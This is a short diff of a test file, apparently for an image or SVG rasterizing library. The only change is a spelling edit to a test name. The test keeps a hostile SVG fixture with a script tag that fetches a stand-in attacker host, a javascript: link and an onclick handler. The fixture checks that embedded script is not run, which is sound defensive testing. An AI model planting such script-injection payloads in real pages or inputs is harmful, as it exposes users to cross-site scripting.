@@ -94,7 +94,7 @@ test('removes metadata and applies the orientation', async () => {
   }
 })
 
-test('rasterizes an SVG without running its script', async () => {
+test('rasterises an SVG without running its script', async () => {
   const hostile =
     `<script>fetch('https://evil.example')</script>` +
     `<a href="javascript:alert(1)" onclick="alert(1)">${disc}</a>`
